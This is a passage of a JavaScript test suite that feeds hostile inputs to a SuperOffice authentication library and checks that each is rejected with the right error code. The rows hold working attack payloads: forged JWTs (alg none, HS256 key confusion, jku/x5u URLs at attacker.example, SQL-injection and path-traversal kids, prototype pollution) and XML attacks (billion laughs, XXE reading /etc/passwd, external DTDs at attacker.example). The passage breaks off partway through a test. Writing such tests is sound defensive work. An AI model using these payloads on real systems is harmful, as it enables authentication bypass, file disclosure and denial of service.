// Hostile input through the JS API, one row per input: [name, input, expected code]. Test material is
// made with node:crypto only. After every row the same wasm instance must still do valid work, so a
// row that trapped or corrupted the instance would fail the row after it.
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { constants, createHmac, generateKeyPairSync, sign } from 'node:crypto';
import { existsSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import {
  KeySet,
  PrivateKey,
  SuperOfficeAuthError,
  parseAgentResponse,
  parseTenantState,
  parseTicketResponse,
  signToken,
  validateToken,
  verifyWebhook,
} from 'superoffice-auth';
import { IDENTITY, b64url, dotNetXml, makeKeyPair, mintJwt, systemUserClaims } from './helpers/independent.mjs';

const NOW = Date.UTC(2026, 10, 23, 14, 5, 30);
const NOW_S = Math.floor(NOW / 1000);
const issuer = makeKeyPair(2048);
const attacker = makeKeyPair(2048);
const signer = makeKeyPair(2048);
const jwks = { keys: [{ ...issuer.publicJwk, kid: 'k1', use: 'sig', alg: 'RS256' }] };
const HEADER = { alg: 'RS256', kid: 'k1' };
const claims = systemUserClaims(NOW_S);
const good = mintJwt(HEADER, claims, issuer.privateKey);
const [goodHeader, goodPayload, goodSignature] = good.split('.');
const validation = { keys: jwks, now: NOW, issuer: 'SuperOffice AS', audience: 'spn:SERIAL-42' };
const TICKET = claims[`${IDENTITY}ticket`];

const S11 = 'http://schemas.xmlsoap.org/soap/envelope/';
const S12 = 'http://www.w3.org/2003/05/soap-envelope';
const P = 'http://www.superoffice.com/superid/partnersystemuser/0.1';
const XSI = 'http://www.w3.org/2001/XMLSchema-instance';
const envelope = (body) => `<s:Envelope xmlns:s="${S11}"><s:Body>${body}</s:Body></s:Envelope>`;
const auth = (children) => `<AuthenticationResponse xmlns="${P}" xmlns:i="${XSI}">${children}</AuthenticationResponse>`;
const success = (token = good) =>
  envelope(auth(`<IsSuccessful>true</IsSuccessful><Token>${token}</Token><ErrorMessage i:nil="true"/>`));
const soap = (body, status = 200) => ({ status, headers: { 'content-type': 'text/xml; charset=utf-8' }, body });
const ticketOptions = { keys: jwks, now: NOW };

/** Valid work of every kind, in the same instance. */
function stillWorks() {
  assert.equal(validateToken(good, validation)[`${IDENTITY}ticket`], TICKET);
  assert.equal(parseTicketResponse(soap(success()), ticketOptions).ticket, TICKET);
  assert.equal(KeySet.from(JSON.stringify(jwks)).size, 1);
  assert.equal(PrivateKey.parse(signer.pkcs8).bits, 2048);
}

/** Runs each row; 'OK' means the call must succeed. */
function table(rows, call) {
  stillWorks();
  for (const [name, input, expected] of rows) {
    let outcome;
    try {
      call(input);
      outcome = 'OK';
    } catch (error) {
      assert.ok(error instanceof SuperOfficeAuthError, `${name}: ${error}`);
      outcome = error.code;
    }
    assert.equal(outcome, expected, `row: ${name}`);
    stillWorks();
  }
}

const enc = (value) => (Buffer.isBuffer(value) ? value.toString('base64url') : b64url(value));
/** header.payload signed by `key` with RSASSA-PKCS1-v1_5 SHA-256 (or other options). */
function signedBy(key, header, payload, options = {}) {
  const input = `${enc(header)}.${enc(payload)}`;
  const signature = sign(options.hash ?? 'sha256', Buffer.from(input), { key, ...options.sign });
  return `${input}.${signature.toString('base64url')}`;
}
const withHeader = (header) => signedBy(issuer.privateKey, header, claims);
const withClaims = (overrides) => signedBy(issuer.privateKey, HEADER, { ...claims, ...overrides });
const withPayload = (text) => signedBy(issuer.privateKey, HEADER, text);
function hs256(header, key) {
  const input = `${enc(header)}.${enc(claims)}`;
  return `${input}.${createHmac('sha256', key).update(input).digest('base64url')}`;
}

// An attacker's certificate for the x5c row: the repository's throwaway test certificate, when the
// tests run from `npm test`; otherwise the attacker's SPKI, which is just as unusable.
const repo = process.env.SUPEROFFICE_AUTH_REPO;
const certPem =
  repo && existsSync(join(repo, 'tests/fixtures/keys/rsa2048.cert-v3.pem'))
    ? readFileSync(join(repo, 'tests/fixtures/keys/rsa2048.cert-v3.pem'), 'utf8')
    : attacker.spki;
const x5c = certPem.replace(/-----[^-]+-----|\s/g, '');

test('hostile JWTs (RFC 8725) through validateToken', () => {
  const flipped = Buffer.from(goodSignature, 'base64url');
  flipped[5] ^= 1;
  const big = (n) => withClaims({ pad: 'x'.repeat(n) });
  const rows = [
    ['valid', good, 'OK'],
    // Algorithms are ours.
    ['alg none, empty signature', `${enc({ alg: 'none' })}.${goodPayload}.`, 'ERR_JWT_MALFORMED'],
    ['alg none with a signature', `${enc({ alg: 'none' })}.${goodPayload}.${goodSignature}`, 'ERR_JWT_ALG_NOT_ALLOWED'],
    ['alg None', withHeader({ alg: 'None' }), 'ERR_JWT_ALG_NOT_ALLOWED'],
    ['HS256 keyed with the public key PEM', hs256({ alg: 'HS256', kid: 'k1' }, issuer.spki), 'ERR_JWT_ALG_NOT_ALLOWED'],
    [
      'HS256 keyed with the public key DER',
      hs256({ alg: 'HS256', kid: 'k1' }, issuer.publicKey.export({ type: 'spki', format: 'der' })),
      'ERR_JWT_ALG_NOT_ALLOWED',
    ],
    [
      'HS256 keyed with the PKCS#1 public key',
      hs256({ alg: 'HS256' }, issuer.publicKey.export({ type: 'pkcs1', format: 'pem' })),
      'ERR_JWT_ALG_NOT_ALLOWED',
    ],
    ['an HMAC under an RS256 header', hs256(HEADER, issuer.spki), 'ERR_JWT_SIGNATURE_INVALID'],
    [
      'RS384',
      signedBy(issuer.privateKey, { alg: 'RS384', kid: 'k1' }, claims, { hash: 'sha384' }),
      'ERR_JWT_ALG_NOT_ALLOWED',
    ],
    [
      'PS256',
      signedBy(issuer.privateKey, { alg: 'PS256', kid: 'k1' }, claims, {
        sign: { padding: constants.RSA_PKCS1_PSS_PADDING },
      }),
      'ERR_JWT_ALG_NOT_ALLOWED',
    ],
    [
      'RS256 header over a PSS signature by the right key',
      signedBy(issuer.privateKey, HEADER, claims, { sign: { padding: constants.RSA_PKCS1_PSS_PADDING } }),
      'ERR_JWT_SIGNATURE_INVALID',
    ],
    [
      'RS256 over SHA-512 by the right key',
      signedBy(issuer.privateKey, HEADER, claims, { hash: 'sha512' }),
      'ERR_JWT_SIGNATURE_INVALID',
    ],
    // Keys never come from the token.
    [
      'embedded jwk (attacker)',
      signedBy(attacker.privateKey, { alg: 'RS256', jwk: attacker.publicJwk }, claims),
      'ERR_JWT_SIGNATURE_INVALID',
    ],
    [
      'embedded jwk with our kid',
      signedBy(attacker.privateKey, { alg: 'RS256', kid: 'k1', jwk: attacker.publicJwk }, claims),
      'ERR_JWT_SIGNATURE_INVALID',
    ],
    [
      'jku',
      signedBy(attacker.privateKey, { alg: 'RS256', kid: 'k1', jku: 'https://attacker.example/jwks' }, claims),
      'ERR_JWT_SIGNATURE_INVALID',
    ],
    [
      'x5u',
      signedBy(attacker.privateKey, { alg: 'RS256', x5u: 'https://attacker.example/cert.pem' }, claims),
      'ERR_JWT_SIGNATURE_INVALID',
    ],
    [
      'x5c (attacker certificate)',
      signedBy(attacker.privateKey, { alg: 'RS256', kid: 'k1', x5c: [x5c] }, claims),
      'ERR_JWT_SIGNATURE_INVALID',
    ],
    ['kid path traversal', withHeader({ alg: 'RS256', kid: '../../../../dev/null' }), 'ERR_JWT_KEY_NOT_FOUND'],
    ['kid SQL injection', withHeader({ alg: 'RS256', kid: "x' UNION SELECT 'secret" }), 'ERR_JWT_KEY_NOT_FOUND'],
    ['kid not a string', withHeader({ alg: 'RS256', kid: 1 }), 'ERR_JWT_MALFORMED'],
    // crit.
    ['crit unknown', withHeader({ ...HEADER, crit: ['exp'], exp: 1 }), 'ERR_JWT_MALFORMED'],
    ['crit empty', withHeader({ ...HEADER, crit: [] }), 'ERR_JWT_MALFORMED'],
    ['crit b64', withHeader({ ...HEADER, b64: false, crit: ['b64'] }), 'ERR_JWT_MALFORMED'],
    // Time claims.
    ['exp string', withClaims({ exp: String(NOW_S + 300) }), 'ERR_JWT_CLAIM_INVALID'],
    ['exp null', withClaims({ exp: null }), 'ERR_JWT_CLAIM_INVALID'],
    ['exp missing', withClaims({ exp: undefined }), 'ERR_JWT_CLAIM_INVALID'],
    ['exp float', withClaims({ exp: NOW_S + 300.5 }), 'OK'],
    ['exp huge', withClaims({ exp: 1e300 }), 'ERR_JWT_CLAIM_INVALID'],
    ['exp beyond f64', withPayload(JSON.stringify(claims).replace(/"exp":\d+/, '"exp":1e400')), 'ERR_JWT_MALFORMED'],
    ['exp negative', withClaims({ exp: -1 }), 'ERR_JWT_CLAIM_INVALID'],
    ['exp past', withClaims({ exp: NOW_S - 61 }), 'ERR_JWT_EXPIRED'],
    ['nbf string', withClaims({ nbf: String(NOW_S) }), 'ERR_JWT_CLAIM_INVALID'],
    ['nbf null', withClaims({ nbf: null }), 'ERR_JWT_CLAIM_INVALID'],
    ['nbf float future', withClaims({ nbf: NOW_S + 60.5 }), 'ERR_JWT_NOT_YET_VALID'],
    ['nbf negative', withClaims({ nbf: -5 }), 'ERR_JWT_CLAIM_INVALID'],
    // iat as a string of digits is SuperOffice's own form (src/jwt/mod.rs, issued_at); nothing else is.
    ['iat digit string', withClaims({ iat: String(NOW_S) }), 'OK'],
    ['iat digit string in the future', withClaims({ iat: String(NOW_S + 3600) }), 'ERR_JWT_NOT_YET_VALID'],
    ['iat word', withClaims({ iat: 'yesterday' }), 'ERR_JWT_CLAIM_INVALID'],
    ['iat signed string', withClaims({ iat: `-${NOW_S}` }), 'ERR_JWT_CLAIM_INVALID'],
    ['iat string with a space', withClaims({ iat: ` ${NOW_S}` }), 'ERR_JWT_CLAIM_INVALID'],
    ['iat string with a fraction', withClaims({ iat: `${NOW_S}.5` }), 'ERR_JWT_CLAIM_INVALID'],
    ['iat null', withClaims({ iat: null }), 'ERR_JWT_CLAIM_INVALID'],
    ['iat huge', withClaims({ iat: Number.MAX_SAFE_INTEGER }), 'ERR_JWT_CLAIM_INVALID'],
    ['iat future', withClaims({ iat: NOW_S + 3600 }), 'ERR_JWT_NOT_YET_VALID'],
    // Audience.
    ['aud mismatch', withClaims({ aud: 'spn:OTHER' }), 'ERR_JWT_CLAIM_INVALID'],
    ['aud array without a match', withClaims({ aud: ['a', 'b'] }), 'ERR_JWT_CLAIM_INVALID'],
    ['aud array with a match', withClaims({ aud: ['a', 'spn:SERIAL-42'] }), 'OK'],
    ['aud empty array', withClaims({ aud: [] }), 'ERR_JWT_CLAIM_INVALID'],
    ['aud number', withClaims({ aud: 42 }), 'ERR_JWT_CLAIM_INVALID'],
    ['aud missing', withClaims({ aud: undefined }), 'ERR_JWT_CLAIM_INVALID'],
    ['aud case variant', withClaims({ aud: 'SPN:serial-42' }), 'ERR_JWT_CLAIM_INVALID'],
    // Issuer.
    ['iss mismatch', withClaims({ iss: 'Evil AS' }), 'ERR_JWT_CLAIM_INVALID'],
    ['iss trailing slash', withClaims({ iss: 'SuperOffice AS/' }), 'ERR_JWT_CLAIM_INVALID'],
    ['iss array', withClaims({ iss: ['SuperOffice AS'] }), 'ERR_JWT_CLAIM_INVALID'],
    ['iss missing', withClaims({ iss: undefined }), 'ERR_JWT_CLAIM_INVALID'],
    // Shapes and encodings.
    ['payload not an object', withPayload('[1,2]'), 'ERR_JWT_MALFORMED'],
    ['payload not JSON', withPayload('exp=1'), 'ERR_JWT_MALFORMED'],
    ['header not an object', withHeader('"RS256"'), 'ERR_JWT_MALFORMED'],
    ['header not JSON', withHeader('{alg:RS256}'), 'ERR_JWT_MALFORMED'],
    ['duplicate header name', withHeader('{"alg":"RS256","kid":"k1","alg":"none"}'), 'ERR_JWT_MALFORMED'],
    [
      'duplicate claim name',
      withPayload(JSON.stringify(claims).replace('{', '{"iss":"Evil AS",')),
      'ERR_JWT_MALFORMED',
    ],
    [
      'duplicate claim by escape',
      withPayload(JSON.stringify(claims).replace('{', '{"\\u0069ss":"Evil AS",')),
      'ERR_JWT_MALFORMED',
    ],
    ['padded base64', `${good}=`, 'ERR_JWT_MALFORMED'],
    [
      'padded header',
      `${Buffer.from(JSON.stringify({ ...HEADER, x: 'ab' })).toString('base64')}.${goodPayload}.${goodSignature}`,
      'ERR_JWT_MALFORMED',
    ],
    [
      'standard alphabet',
      `${goodHeader}.${goodPayload}.${goodSignature.replaceAll('-', '+').replaceAll('_', '/')}`,
      /[-_]/.test(goodSignature) ? 'ERR_JWT_MALFORMED' : 'OK',
    ],
    ['empty', '', 'ERR_INVALID_ARGUMENT'],
    ['dots only', '..', 'ERR_JWT_MALFORMED'],
    ['truncated', good.slice(0, good.length - 10), 'ERR_JWT_SIGNATURE_INVALID'],
    ['truncated to two segments', `${goodHeader}.${goodPayload}`, 'ERR_JWT_MALFORMED'],
    ['extra segment', `${good}.e30`, 'ERR_JWT_MALFORMED'],
    ['leading whitespace', ` ${good}`, 'ERR_JWT_MALFORMED'],
    ['trailing newline', `${good}\n`, 'ERR_JWT_MALFORMED'],
    [
      'invalid UTF-8 payload',
      signedBy(issuer.privateKey, HEADER, Buffer.from([0x7b, 0x22, 0xff, 0x22, 0x3a, 0x31, 0x7d])),
      'ERR_JWT_MALFORMED',
    ],
    ['lone surrogate in the string', `${good}\uD800`, 'ERR_JWT_MALFORMED'],
    ['64 KiB payload', big(64 * 1024), 'ERR_JWT_MALFORMED'],
    ['50 MB token', 'a'.repeat(50 * 1024 * 1024), 'ERR_JWT_MALFORMED'],
    [
      'JSON serialization',
      JSON.stringify({ payload: goodPayload, signatures: [{ protected: goodHeader, signature: goodSignature }] }),
      'ERR_JWT_MALFORMED',
    ],
    [
      'flattened JSON serialization',
      JSON.stringify({ payload: goodPayload, protected: goodHeader, signature: goodSignature }),
      'ERR_JWT_MALFORMED',
    ],
    [
      'flipped signature bit',
      `${goodHeader}.${goodPayload}.${flipped.toString('base64url')}`,
      'ERR_JWT_SIGNATURE_INVALID',
    ],
    [
      'payload swapped, signature kept',
      `${goodHeader}.${enc({ ...claims, iss: 'x' })}.${goodSignature}`,
      'ERR_JWT_SIGNATURE_INVALID',
    ],
    ['signed by another key', signedBy(attacker.privateKey, HEADER, claims), 'ERR_JWT_SIGNATURE_INVALID'],
    // Issue 19: members that would reach a prototype when merged are dropped (checked below), not refused.
    ['a __proto__ claim', withPayload(JSON.stringify(claims).replace('{', '{"__proto__":{"polluted":true},')), 'OK'],
    [
      'constructor.prototype claims',
      withPayload(JSON.stringify(claims).replace('{', '{"constructor":{"prototype":{"polluted":true}},')),
      'OK',
    ],
    [
      '__proto__ twice',
      withPayload(JSON.stringify(claims).replace('{', '{"__proto__":1,"__proto__":2,')),
      'ERR_JWT_MALFORMED',
    ],
  ];
  table(rows, (token) => validateToken(token, validation));
  for (const [name, token, expected] of rows) {
    if (expected !== 'OK') continue;
    const merged = Object.assign({}, validateToken(token, validation));
    assert.equal(merged.polluted, undefined, `row: ${name}`);
    assert.ok(!Object.hasOwn(merged, 'constructor'), `row: ${name}`);
  }
});

test('hostile JWKS and key sets through KeySet.from', () => {
  const small = makeKeyPair(1024);
  const jwk = (extra) => ({ ...issuer.publicJwk, kid: 'a', ...extra });
  const set = (...keys) => JSON.stringify({ keys });
  const rows = [
    ['valid', set(jwk()), 'OK'],
    ['duplicate kid', set(jwk(), { ...attacker.publicJwk, kid: 'a' }), 'ERR_KEYSET_INVALID'],
    ['use enc', set(jwk({ use: 'enc' })), 'ERR_KEYSET_INVALID'],
    ['use enc beside a signing key is skipped', set(jwk({ use: 'enc', kid: 'x' }), jwk()), 'OK'],
    ['key_ops without verify', set(jwk({ key_ops: ['encrypt', 'sign'] })), 'ERR_KEYSET_INVALID'],
    ['key_ops not an array', set(jwk({ key_ops: 'verify' })), 'ERR_KEYSET_INVALID'],
    ['kty EC', set({ kty: 'EC', crv: 'P-256', x: 'AA', y: 'AA', kid: 'e' }), 'ERR_KEYSET_INVALID'],
    ['kty oct (an HMAC key)', set({ kty: 'oct', k: 'c2VjcmV0', kid: 'h' }), 'ERR_KEYSET_INVALID'],
    ['kty lower case', set(jwk({ kty: 'rsa' })), 'ERR_KEYSET_INVALID'],
    ['alg RS512', set(jwk({ alg: 'RS512' })), 'ERR_KEYSET_INVALID'],
    ['RSA 1024 bits', set({ ...small.publicJwk, kid: 's' }), 'ERR_KEYSET_INVALID'],
    ['public exponent 1', set(jwk({ e: 'AQ' })), 'ERR_KEYSET_INVALID'],
    ['public exponent 2', set(jwk({ e: 'Ag' })), 'ERR_KEYSET_INVALID'],
    [
      'even modulus',
      set(
        jwk({
          n: Buffer.from(issuer.publicJwk.n, 'base64url')
            .map((b, i, a) => (i === a.length - 1 ? b & 0xfe : b))
            .toString('base64url'),
        }),
      ),
      'ERR_KEYSET_INVALID',
    ],
    ['n not base64url', set(jwk({ n: `${issuer.publicJwk.n}==` })), 'ERR_KEYSET_INVALID'],
    ['n missing', set(jwk({ n: undefined })), 'ERR_KEYSET_INVALID'],
    ['duplicate member names', set(jwk()).replace('"kty":"RSA"', '"kty":"RSA","kty":"EC"'), 'ERR_KEYSET_INVALID'],
    ['empty keys', set(), 'ERR_KEYSET_INVALID'],
    ['no keys member', '{"key":[]}', 'ERR_KEYSET_INVALID'],
    ['not JSON', '{"keys":', 'ERR_KEYSET_INVALID'],
    ['101 keys', set(...Array.from({ length: 101 }, (_, i) => jwk({ kid: `k${i}` }))), 'ERR_KEYSET_INVALID'],
    ['2 MB of text', `${set(jwk())}${' '.repeat(2 * 1024 * 1024)}`, 'ERR_KEYSET_INVALID'],
    ['a private key', signer.pkcs8, 'ERR_KEYSET_INVALID'],
    ['garbage', 'hello', 'ERR_KEYSET_INVALID'],
    ['pinned SPKI', issuer.spki, 'OK'],
    ['SPKI of a 1024-bit key', small.spki, 'ERR_KEYSET_INVALID'],
    ['not a string or JWKS', 42, 'ERR_INVALID_ARGUMENT'],
  ];
  table(rows, (keys) => KeySet.from(keys));
});

test('hostile XML and responses through parseTicketResponse', () => {
  const withToken = (children) => envelope(auth(`<IsSuccessful>true</IsSuccessful>${children}`));
  const rows = [
    ['valid', soap(success()), 'OK'],
    ['BOM', soap(`\uFEFF${success()}`), 'OK'],
    ['declaration', soap(`<?xml version="1.0" encoding="utf-8"?>${success()}`), 'OK'],
    [
      'token split by CDATA (joined, as XML says)',
      soap(withToken(`<Token>${good.slice(0, 20)}<![CDATA[${good.slice(20)}]]></Token>`)),
      'OK',
    ],
    [
      'DOCTYPE with an internal entity',
      soap(`<!DOCTYPE s:Envelope [<!ENTITY t "${good}">]>${withToken('<Token>&t;</Token>')}`),
      'ERR_XML_FORBIDDEN',
    ],
    [
      'billion laughs',
      soap(
        `<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;"><!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">]>${withToken('<Token>&lol4;</Token>')}`,
      ),
      'ERR_XML_FORBIDDEN',
    ],
    [
      'XXE',
      soap(`<!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${withToken('<Token>&xxe;</Token>')}`),
      'ERR_XML_FORBIDDEN',
    ],
    [
      'external DTD',
      soap(`<!DOCTYPE s:Envelope SYSTEM "http://attacker.example/x.dtd">${success()}`),
      'ERR_XML_FORBIDDEN',
    ],
    [
      'parameter entity',
      soap(`<!DOCTYPE s:Envelope [<!ENTITY % p SYSTEM "http://attacker.example/p"> %p;]>${success()}`),
      'ERR_XML_FORBIDDEN',
    ],
    ['unknown entity', soap(withToken('<Token>&token;</Token>')), 'ERR_XML_FORBIDDEN'],
    ['HTML entity', soap(withToken(`<Token>${good}&nbsp;</Token>`)), 'ERR_XML_FORBIDDEN'],
    [
      '100 000-deep nesting (over the size cap first)',
      soap(`${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`),
      'ERR_RESPONSE_TOO_LARGE',
    ],
    ['80 000-deep nesting under the size cap', soap(envelope('<a>'.repeat(80_000))), 'ERR_RESPONSE_MALFORMED'],
    [
      'one start tag with 25 000 attributes',
      soap(`<s:Envelope xmlns:s="${S11}"${Array.from({ length: 25_000 }, (_, i) => ` a${i}=""`).join('')}/>`),
      'ERR_RESPONSE_MALFORMED',
    ],
    [
      'one start tag with 300 namespace declarations',
      soap(
        `<s:Envelope xmlns:s="${S11}"${Array.from({ length: 300 }, (_, i) => ` xmlns:p${i}="urn:${i}"`).join('')}/>`,
      ),
      'ERR_RESPONSE_MALFORMED',
    ],
    ['50 MB body', soap(' '.repeat(50 * 1024 * 1024)), 'ERR_RESPONSE_TOO_LARGE'],
    [
      '50 MB body as bytes',
      { status: 200, headers: {}, body: new Uint8Array(50 * 1024 * 1024) },
      'ERR_RESPONSE_TOO_LARGE',
    ],
    ['50 MB body with status 500', soap('<'.repeat(50 * 1024 * 1024), 500), 'ERR_RESPONSE_TOO_LARGE'],
    ['two Token elements', soap(withToken(`<Token>${good}</Token><Token>${good}</Token>`)), 'ERR_RESPONSE_MALFORMED'],
    [
      'Token split by a comment',
      soap(withToken(`<Token>${good.slice(0, 20)}<!-- -->${good.slice(20)}</Token>`)),
      'ERR_RESPONSE_MALFORMED',
    ],
    [
      'Token split by a processing instruction',
      soap(withToken(`<Token>${good.slice(0, 20)}<?x?>${good.slice(20)}</Token>`)),
      'ERR_RESPONSE_MALFORMED',
    ],
    [
      'wrong namespace with the right prefix',
      soap(
        `<s:Envelope xmlns:s="urn:evil"><s:Body>${auth(`<IsSuccessful>true</IsSuccessful><Token>${good}</Token>`)}</s:Body></s:Envelope>`,
      ),
      'ERR_RESPONSE_MALFORMED',
    ],
    [
      'wrong response namespace',
      soap(
        envelope(
          `<p:AuthenticationResponse xmlns:p="urn:evil"><p:IsSuccessful>true</p:IsSuccessful><p:Token>${good}</p:Token></p:AuthenticationResponse>`,
        ),
      ),
      'ERR_RESPONSE_MALFORMED',
    ],
    ['truncated document', soap(success().slice(0, -30)), 'ERR_RESPONSE_MALFORMED'],
    ['two roots', soap(`${success()}${success()}`), 'ERR_RESPONSE_MALFORMED'],
    [
      'SOAP 1.1 fault',
      soap(envelope('<s:Fault><faultcode>s:Client</faultcode><faultstring>Bad</faultstring></s:Fault>'), 500),
      'ERR_SOAP_FAULT',
    ],
    [
      'SOAP 1.2 fault',
      soap(
        `<e:Envelope xmlns:e="${S12}"><e:Body><e:Fault><e:Code><e:Value>e:Sender</e:Value></e:Code><e:Reason><e:Text xml:lang="en">Bad</e:Text></e:Reason></e:Fault></e:Body></e:Envelope>`,
        500,
      ),
      'ERR_SOAP_FAULT',
    ],
    [
      'a fault beside a token',
      soap(
        envelope(
          `${auth(`<IsSuccessful>true</IsSuccessful><Token>${good}</Token>`)}<s:Fault><faultcode>s:Server</faultcode><faultstring>x</faultstring></s:Fault>`,
        ),
      ),
      'ERR_RESPONSE_MALFORMED',
    ],
    [
      'IsSuccessful True',
      soap(envelope(auth(`<IsSuccessful>True</IsSuccessful><Token>${good}</Token>`))),
      'ERR_RESPONSE_MALFORMED',
    ],
    [
      'IsSuccessful yes',
      soap(envelope(auth(`<IsSuccessful>yes</IsSuccessful><Token>${good}</Token>`))),
      'ERR_RESPONSE_MALFORMED',
    ],
    ['IsSuccessful empty', soap(envelope(auth(`<IsSuccessful/><Token>${good}</Token>`))), 'ERR_RESPONSE_MALFORMED'],
    ['IsSuccessful 1', soap(envelope(auth(`<IsSuccessful>1</IsSuccessful><Token>${good}</Token>`))), 'OK'],
    [
      'IsSuccessful false',
      soap(envelope(auth('<IsSuccessful>false</IsSuccessful><ErrorMessage>Denied</ErrorMessage>'))),
      'ERR_TICKET_DENIED',
    ],
    ['UTF-16 declaration', soap(`<?xml version="1.0" encoding="UTF-16"?>${success()}`), 'ERR_RESPONSE_MALFORMED'],
    [
      'UTF-16 bytes',
      { status: 200, headers: {}, body: Buffer.from(`\uFEFF${success()}`, 'utf16le') },
      'ERR_RESPONSE_MALFORMED',
    ],
    ['UTF-8 BOM bytes', { status: 200, headers: {}, body: Buffer.from(`\uFEFF${success()}`, 'utf8') }, 'OK'],
    ['NUL character', soap(success().replace('<Token>', '<Token>\u0000')), 'ERR_RESPONSE_MALFORMED'],
    [
      'HTML error page with 502',
      {
        status: 502,
        headers: { 'content-type': 'text/html' },
        body: '<!DOCTYPE html><html><body>Bad gateway</body></html>',
      },
      'ERR_HTTP_STATUS',
    ],
    [
      'REST duplicate member',
      {
        status: 200,
        headers: { 'content-type': 'application/json' },
        body: `{"IsSuccessful":false,"IsSuccessful":true,"Token":"${good}"}`,
      },
      'ERR_RESPONSE_MALFORMED',
    ],
    [
      'token signed by the attacker',
      soap(success(signedBy(attacker.privateKey, HEADER, claims))),
      'ERR_JWT_SIGNATURE_INVALID',
    ],
    ['token with alg none', soap(success(`${enc({ alg: 'none' })}.${goodPayload}.`)), 'ERR_JWT_MALFORMED'],
  ];
  table(rows, (response) => parseTicketResponse(response, ticketOptions));
  // Every row is answered quickly: nothing in a 256 KiB body may cost more than linear time. (One
  // start tag with 25 000 attributes once took over half a minute.)
  for (const [name, response] of rows) {
    const started = performance.now();
    try {
      parseTicketResponse(response, ticketOptions);
    } catch {
      // the code was checked above
    }
    assert.ok(performance.now() - started < 1000, `row: ${name} took ${Math.round(performance.now() - started)} ms`);
  }
});

test('hostile XML and responses through parseAgentResponse', () => {
  const NS = 'http://www.superoffice.net/ws/crm/NetServer/Services88';
  const agent = (response, headers = `<Succeeded xmlns="${NS}">true</Succeeded>`) =>
    `<s:Envelope xmlns:s="${S11}"><s:Header>${headers}</s:Header><s:Body><GetAssociateResponse xmlns="${NS}" xmlns:i="${XSI}">${response}</GetAssociateResponse></s:Body></s:Envelope>`;
  const good = agent('<Response><AssociateId>5</AssociateId></Response>');
  const rows = [
    ['valid', soap(good), 'OK'],
    ['BOM', soap(`\uFEFF${good}`), 'OK'],
    ['CDATA joined', soap(agent('<Response><A>1<![CDATA[2]]></A></Response>')), 'OK'],
    [
      'DOCTYPE with an internal entity',
      soap(`<!DOCTYPE s:Envelope [<!ENTITY t "5">]>${agent('<Response><A>&t;</A></Response>')}`),
      'ERR_XML_FORBIDDEN',
    ],
    [
      'billion laughs',
      soap(
        `<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;"><!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>${agent('<Response>&lol3;</Response>')}`,
      ),
      'ERR_XML_FORBIDDEN',
    ],
    [
      'XXE',
      soap(`<!DOCTYPE s:Envelope [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>${agent('<Response>&xxe;</Response>')}`),
      'ERR_XML_FORBIDDEN',
    ],
    ['external DTD', soap(`<!DOCTYPE s:Envelope SYSTEM "http://attacker.example/x.dtd">${good}`), 'ERR_XML_FORBIDDEN'],
    ['HTML entity', soap(agent('<Response>&nbsp;</Response>')), 'ERR_XML_FORBIDDEN'],
    [
      '100 000-deep nesting (over the size cap first)',
      soap(agent(`${'<a>'.repeat(100_000)}${'</a>'.repeat(100_000)}`)),
      'ERR_RESPONSE_TOO_LARGE',
    ],
    [
      '80 000-deep nesting under the size cap',
      soap(agent(`<Response>${'<a>'.repeat(80_000)}</Response>`)),
      'ERR_RESPONSE_MALFORMED',
    ],
    ['20 000 sibling elements', soap(agent(`<Response>${'<a/>'.repeat(20_000)}</Response>`)), 'ERR_RESPONSE_MALFORMED'],
    [
      'one start tag with 25 000 attributes',
      soap(agent(`<Response${Array.from({ length: 25_000 }, (_, i) => ` a${i}=""`).join('')}/>`)),
      'ERR_RESPONSE_MALFORMED',
    ],
    ['50 MB body', soap(' '.repeat(50 * 1024 * 1024)), 'ERR_RESPONSE_TOO_LARGE'],
    ['50 MB body with status 401', soap('<'.repeat(50 * 1024 * 1024), 401), 'ERR_RESPONSE_TOO_LARGE'],
    [
      '50 MB body as bytes',
      { status: 200, headers: {}, body: new Uint8Array(50 * 1024 * 1024) },
      'ERR_RESPONSE_TOO_LARGE',
    ],
    ['value split by a comment', soap(agent('<Response><A>1<!-- -->2</A></Response>')), 'ERR_RESPONSE_MALFORMED'],
    [
      'value split by a processing instruction',
      soap(agent('<Response><A>1<?x?>2</A></Response>')),
      'ERR_RESPONSE_MALFORMED',
    ],
    ['two Response elements', soap(agent('<Response>1</Response><Response>2</Response>')), 'ERR_RESPONSE_MALFORMED'],
    [
      'Succeeded twice',
      soap(
        agent(
          '<Response>1</Response>',
          `<Succeeded xmlns="${NS}">true</Succeeded><Succeeded xmlns="${NS}">false</Succeeded>`,
        ),
      ),
      'ERR_RESPONSE_MALFORMED',
    ],
    [
      'ExceptionInfo hidden beside a result',
      soap(
        agent(
          '<Response>1</Response>',
          `<ExceptionInfo xmlns="${NS}"><ExceptionType>SoException</ExceptionType></ExceptionInfo>`,
        ),
      ),
      'ERR_NETSERVER_EXCEPTION',
    ],
    ['wrong namespace with the right prefix', soap(good.replace(S11, 'urn:evil')), 'ERR_RESPONSE_MALFORMED'],
    ['response in a made-up version', soap(good.replaceAll(NS, `${NS}0`)), 'ERR_RESPONSE_MALFORMED'],
    ['truncated document', soap(good.slice(0, -30)), 'ERR_RESPONSE_MALFORMED'],
    ['two roots', soap(`${good}${good}`), 'ERR_RESPONSE_MALFORMED'],
    ['UTF-16 declaration', soap(`<?xml version="1.0" encoding="UTF-16"?>${good}`), 'ERR_RESPONSE_MALFORMED'],
    [
      'UTF-16 bytes',
      { status: 200, headers: {}, body: Buffer.from(`\uFEFF${good}`, 'utf16le') },
      'ERR_RESPONSE_MALFORMED',
    ],
    ['NUL character', soap(good.replace('<AssociateId>', '<AssociateId>\u0000')), 'ERR_RESPONSE_MALFORMED'],
